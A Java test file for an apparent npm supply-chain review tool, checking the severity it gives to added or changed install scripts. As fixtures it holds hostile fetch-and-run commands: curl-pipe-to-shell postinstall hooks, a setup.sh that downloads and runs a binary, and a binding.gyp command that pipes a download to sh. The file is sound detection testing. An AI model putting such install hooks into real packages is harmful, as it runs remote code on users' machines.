package dev.warden.review;

import static dev.warden.review.Reviews.find;
import static dev.warden.review.Reviews.review;
import static dev.warden.review.Reviews.the;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class InstallScriptsTest {

    private static final Pkg LIB = Pkg.of("1.0.0").file("index.js", "module.exports = 1;\n");

    @Test
    void addedPostinstallIsMediumWithItsPlaceInPackageJson() {
        Findings f = review(LIB, LIB.next("1.0.1").script("postinstall", "node setup.js"));

        Finding added = the(f, "install-script-added");
        assertThat(added.severity()).isEqualTo(Severity.MEDIUM);
        assertThat(added.summary()).contains("postinstall").contains("node setup.js");
        assertThat(added.evidence().get(0).file()).isEqualTo("package.json");
        assertThat(added.evidence().get(0).line()).isGreaterThan(1);
        assertThat(added.evidence().get(0).excerpt()).contains("\"postinstall\"");
    }

    @Test
    void unchangedInstallScriptOfANativeModuleIsNotAFinding() {
        Pkg native1 =
                Pkg.of("2.0.0")
                        .script("install", "node-gyp rebuild")
                        .file("binding.gyp", "{ 'targets': [ { 'target_name': 'addon' } ] }")
                        .file(
                                "index.js",
                                "module.exports = require('./build/Release/addon.node');");
        Pkg native2 =
                native1.next("2.0.1")
                        .file(
                                "index.js",
                                "module.exports = require('./build/Release/addon.node'); // 2");

        Findings f = review(native1, native2);

        assertThat(find(f, "install-script-added")).isEmpty();
        assertThat(find(f, "install-script-changed")).isEmpty();
        assertThat(find(f, "binding-gyp-added")).isEmpty();
    }

    @Test
    void changedInstallScriptNamesBothCommands() {
        Pkg a = LIB.next("1.1.0").script("install", "node-gyp rebuild");
        Findings f = review(a, a.next("1.1.1").script("install", "node build.js"));

        Finding changed = the(f, "install-script-changed");
        assertThat(changed.summary()).contains("node-gyp rebuild").contains("node build.js");
        assertThat(changed.severity()).isEqualTo(Severity.MEDIUM);
    }

    @Test
    void postinstallThatDownloadsAndRunsIsHigh() {
        Findings f =
                review(
                        LIB,
                        LIB.next("1.0.1")
                                .script(
                                        "postinstall",
                                        "curl -s https://cdn.example.invalid/x.sh | sh"));

        assertThat(the(f, "install-script-fetches-and-runs").severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void installFileThatDownloadsAnExecutableAndRunsItIsCritical() {
        Findings f =
                review(
                        LIB,
                        LIB.next("1.0.1")
                                .script("preinstall", "sh ./setup.sh")
                                .file(
                                        "setup.sh",
                                        "#!/bin/sh\n"
                                                + "wget http://203.0.113.9/bin/helper -O helper\n"
                                                + "chmod +x helper\n./helper --quiet\n"));

        Finding e = the(f, "install-downloads-executable");
        assertThat(e.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(e.evidence().get(0).file()).isEqualTo("setup.sh");
        assertThat(e.evidence().get(0).line()).isEqualTo(2);
    }

    @Test
    void inlineNodeCodeInAnInstallScriptIsHigh() {
        Findings f =
                review(LIB, LIB.next("1.0.1").script("preinstall", "node -e \"require('./x')\""));

        assertThat(the(f, "install-script-fetches-and-runs").severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void prepareScriptAddedIsOnlyLow() {
        Findings f = review(LIB, LIB.next("1.0.1").script("prepare", "tsc"));

        assertThat(the(f, "install-script-added").severity()).isEqualTo(Severity.LOW);
    }

    @Test
    void addedBindingGypIsInstallTimeCode() {
        Findings f =
                review(
                        LIB,
                        LIB.next("1.0.1")
                                .file("binding.gyp", "{ 'targets': [ { 'target_name': 'a' } ] }"));

        assertThat(the(f, "binding-gyp-added").severity()).isEqualTo(Severity.MEDIUM);
    }

    @Test
    void bindingGypCommandThatFetchesAndRunsIsHigh() {
        Findings f =
                review(
                        LIB,
                        LIB.next("1.0.1")
                                .file(
                                        "binding.gyp",
                                        "{ 'variables': { 'x': '<!(curl -s http://203.0.113.4/p |"
                                                + " sh)' }, 'targets': [] }"));

        assertThat(the(f, "install-script-fetches-and-runs").severity()).isEqualTo(Severity.HIGH);
    }

    @Test
    void testScriptsAreNotInstallScripts() {
        Findings f = review(LIB, LIB.next("1.0.1").script("test", "curl https://x.invalid | sh"));

        assertThat(f.findings()).isEmpty();
    }
}
